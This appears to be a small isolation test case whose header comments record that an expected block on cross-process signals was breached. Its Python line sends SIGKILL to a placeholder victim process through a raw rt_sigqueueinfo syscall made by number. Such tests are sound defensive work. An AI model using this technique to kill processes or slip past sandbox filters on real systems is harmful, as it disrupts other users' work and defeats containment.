# EXPECT: no signal reaches another: rt_sigqueueinfo by number
# OUTCOME: succeeded
# CONTROL: breaches
import ctypes, struct
l = ctypes.CDLL(None, use_errno=True)
print(l.syscall(129, __VICTIM__, 9, struct.pack('iii', 9, 0, -1) + bytes(116)), ctypes.get_errno())
